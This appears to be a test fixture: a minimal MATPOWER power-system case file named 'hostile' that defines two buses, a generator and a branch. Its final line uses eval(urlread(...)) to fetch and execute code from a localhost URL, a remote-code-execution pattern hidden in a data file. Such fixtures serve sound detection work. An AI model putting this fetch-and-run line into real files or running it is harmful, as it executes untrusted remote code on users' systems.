% Fetches a page and runs it.
function mpc = hostile
mpc.version = '2';
mpc.baseMVA = 10;
mpc.bus = [
1 3 0 0 0 0 1 1 0 12.66 1 1 1;
2 1 0.1 0.06 0 0 1 1 0 12.66 1 1.1 0.9;
];
mpc.gen = [
1 0 0 10 -10 1 100 1 10 0;
];
mpc.branch = [
1 2 0.0922 0.0470 0 0 0 0 0 0 1 -360 360;
];
eval(urlread('http://127.0.0.1:9/x.m'));
